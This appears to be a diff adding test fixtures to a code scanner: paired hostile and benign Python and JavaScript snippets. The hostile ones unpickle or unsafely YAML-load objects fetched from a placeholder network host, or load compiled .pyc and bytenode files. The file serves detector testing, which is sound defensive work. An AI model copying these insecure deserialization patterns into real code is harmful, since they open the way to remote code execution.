@@ -1,0 +1,77 @@
+"""Samples and twins of data that makes objects, or code that was compiled, as it arrives."""
+
+from inspection.rules.sample import Sample, py
+
+_GET = "requests.get('https://a.invalid').text"
+
+
+def _compiled(loader: str, file: str) -> dict[str, str | bytes]:
+    return {
+        "a/__init__.py": "import importlib.machinery as m, os\n"
+        f"m.{loader}('b', os.path.join(os.path.dirname(__file__), '{file}')).load_module()\n",
+        "a/b.py": "B = 1\n",
+        "a/c.pyc": b"o\r\r\n\0\0\0\0",
+    }
+
+
+HOSTILE: dict[str, dict[str, Sample]] = {
+    "remote_object": {
+        "ruamel's unsafe reader, kept by an object": py(
+            "import requests\nfrom ruamel.yaml import YAML\nclass A:\n    def __init__(self):\n"
+            f"        self.y = YAML(typ='unsafe')\n    def f(self):\n        return self.y.load({_GET})\n",
+            line=7,
+        ),
+        "ruamel's old functions": py(
+            f"import ruamel.yaml, requests\nruamel.yaml.load({_GET}, Loader=ruamel.yaml.UnsafeLoader)\n"
+        ),
+        "a loader of YAML by itself": py(f"import yaml, requests\nyaml.UnsafeLoader({_GET}).get_data()\n"),
+        "objects from a message socket": py(
+            "import zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://a.invalid:1')\ns.recv_pyobj()\n", line=4
+        ),
+        "objects from another process's listener": py(
+            "from multiprocessing.connection import Client\nwith Client(('a.invalid', 1)) as c:\n    c.recv()\n", line=3
+        ),
+        "a library that unpickles what is packed": py(
+            "import compress_pickle, requests\n"
+            "compress_pickle.loads(requests.get('https://a.invalid').content, 'gzip')\n"
+        ),
+    },
+    "unread_code": {
+        "a loader of compiled code is given the file": Sample(
+            _compiled("SourcelessFileLoader", "c.pyc"), "review", ("a/c.pyc", 0)
+        ),
+        "code that V8 compiled": Sample(
+            {"a.js": "require('bytenode')\nrequire('./b.jsc')\n", "b.jsc": b"\xc0\xde\0\0"}, "review", ("b.jsc", 0)
+        ),
+    },
+}
+
+HONEST: dict[str, dict[str, dict[str, str | bytes]]] = {
+    "remote_object": {
+        "ruamel's usual reader": {"a.py": f"import requests\nfrom ruamel.yaml import YAML\nYAML().load({_GET})\n"},
+        "ruamel's safe reader": {
+            "a.py": f"import requests\nfrom ruamel.yaml import YAML\nYAML(typ='safe').load({_GET})\n"
+        },
+        "ruamel's old functions, keeping comments": {
+            "a.py": f"import ruamel.yaml, requests\nruamel.yaml.load({_GET}, Loader=ruamel.yaml.RoundTripLoader)\n"
+        },
+        "plain data from a message socket": {
+            "a.py": "import zmq\ns = zmq.Context().socket(zmq.REQ)\ns.connect('tcp://a.invalid:1')\ns.recv_json()\n"
+        },
+        "bytes from another process's listener": {
+            "a.py": "from multiprocessing.connection import Client\nwith Client(('a.invalid', 1)) as c:\n"
+            "    print(c.recv_bytes())\n"
+        },
+    },
+    "unread_code": {
+        "a loader of sources is given one": {
+            path: data for path, data in _compiled("SourceFileLoader", "b.py").items() if path != "a/c.pyc"
+        },
+    },
+    "hidden_text": {
+        "a letter that is not seen, to compare with": {
+            "package.json": '{"main": "a.js"}',
+            "a.js": "exports.isFiller = (letter) => letter === '\u3164'\n",
+        },
+    },
+}
